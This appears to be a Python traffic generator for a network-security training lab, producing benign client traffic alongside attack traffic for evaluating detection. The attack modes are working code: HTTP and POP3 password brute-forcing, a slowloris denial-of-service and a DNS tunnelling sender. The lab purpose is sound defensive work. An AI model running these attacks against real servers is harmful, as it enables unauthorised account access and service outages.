#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
"""Clients of the training lab that Debian has no ready tool for, one per invocation.

Benign:
  clients.py idle HOST PORT N SECONDS      N HTTP keep-alive connections, one request
                                           each every 15-40 s (long idle keep-alives)
  clients.py login http|pop3 HOST N        N legitimate logins (right password), 1-5 s apart
  clients.py shorthttp HOST N              N short HTTP connections (one GET each)
Attacks (a second tool beside the Debian one, for held-out evaluation):
  clients.py brute http|pop3 HOST N DELAY  N password guesses, a new connection each
  clients.py slowloris HOST N SECONDS      N connections sending a header line every ~10 s
  clients.py dnstunnel HOST N RATE         N DNS queries carrying 60 bytes of data each,
                                           RATE per second, to HOST:53
"""
import base64
import os
import random
import socket
import sys
import threading
import time


def http_get(host, port, path, auth=None, timeout=5):
    s = socket.create_connection((host, port), timeout=timeout)
    req = f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n"
    if auth:
        req += "Authorization: Basic " + base64.b64encode(auth.encode()).decode() + "\r\n"
    s.sendall((req + "\r\n").encode())
    while s.recv(65536):
        pass
    s.close()


def idle(host, port, n, seconds):
    def one():
        try:
            s = socket.create_connection((host, port), timeout=60)
            end = time.time() + seconds
            while time.time() < end:
                s.sendall(f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
                got = 0
                while got < 2000:  # the page: read it all before idling again
                    b = s.recv(65536)
                    if not b:
                        return
                    got += len(b)
                time.sleep(random.uniform(15, 40))
            s.close()
        except OSError:
            pass
    ts = [threading.Thread(target=one) for _ in range(n)]
    for t in ts:
        t.start()
        time.sleep(random.uniform(0, 2))
    for t in ts:
        t.join()


def pop3_login(host, user, password):
    s = socket.create_connection((host, 110), timeout=5)
    f = s.makefile("rwb")
    f.readline()
    for line in (f"USER {user}", f"PASS {password}", "QUIT"):
        f.write((line + "\r\n").encode())
        f.flush()
        f.readline()
    s.close()


def guess():
    return "".join(random.choice("abcdefghijklmnopqrstuvwxyz0123456789")
                   for _ in range(random.randint(5, 12)))


def login(proto, host, n):
    for _ in range(n):
        try:
            if proto == "http":
                http_get(host, 8080, "/login", auth="admin:correct-horse")
            else:
                pop3_login(host, "admin", "correct-horse")
        except OSError:
            pass
        time.sleep(random.uniform(1, 5))


def brute(proto, host, n, delay):
    user = random.choice(["admin", "root", "user", "test"])
    for _ in range(n):
        try:
            if proto == "http":
                http_get(host, 8080, "/login", auth=f"{user}:{guess()}")
            else:
                pop3_login(host, user, guess())
        except OSError:
            pass
        time.sleep(random.uniform(0, delay))


def shorthttp(host, n):
    for _ in range(n):
        try:
            http_get(host, 80, random.choice(["/", "/", "/big?n=20000"]))
        except OSError:
            pass
        time.sleep(random.uniform(0, 0.05))


def slowloris(host, n, seconds):
    socks = []
    for _ in range(n):
        try:
            s = socket.create_connection((host, 80), timeout=5)
            s.sendall(f"GET /?{random.randint(0, 99999)} HTTP/1.1\r\nHost: {host}\r\n".encode())
            socks.append(s)
        except OSError:
            pass
        time.sleep(random.uniform(0, 0.02))
    end = time.time() + seconds
    while time.time() < end:
        time.sleep(random.uniform(8, 12))
        for s in list(socks):
            try:
                s.sendall(f"X-a: {random.randint(1, 5000)}\r\n".encode())
            except OSError:
                socks.remove(s)
    for s in socks:
        s.close()


def dnstunnel(host, n, rate):
    data = os.urandom(n * 38)
    for i in range(n):
        chunk = base64.b32encode(data[i * 38:(i + 1) * 38]).decode().rstrip("=").lower()
        name = f"{chunk}.{i:x}.t.lab.test"
        q = random.randbytes(2) + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
        for label in name.split("."):
            q += bytes([len(label)]) + label.encode()
        q += b"\x00\x00\x10\x00\x01"  # TXT, IN
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(1)
        try:
            s.sendto(q, (host, 53))
            s.recvfrom(4096)
        except OSError:
            pass
        s.close()
        time.sleep(1.0 / rate)


def main():
    a = sys.argv[1:]
    try:
        if a[0] == "idle":
            idle(a[1], int(a[2]), int(a[3]), float(a[4]))
        elif a[0] == "login":
            login(a[1], a[2], int(a[3]))
        elif a[0] == "shorthttp":
            shorthttp(a[1], int(a[2]))
        elif a[0] == "brute":
            brute(a[1], a[2], int(a[3]), float(a[4]))
        elif a[0] == "slowloris":
            slowloris(a[1], int(a[2]), float(a[3]))
        elif a[0] == "dnstunnel":
            dnstunnel(a[1], int(a[2]), float(a[3]))
        else:
            raise IndexError
    except (IndexError, ValueError):
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
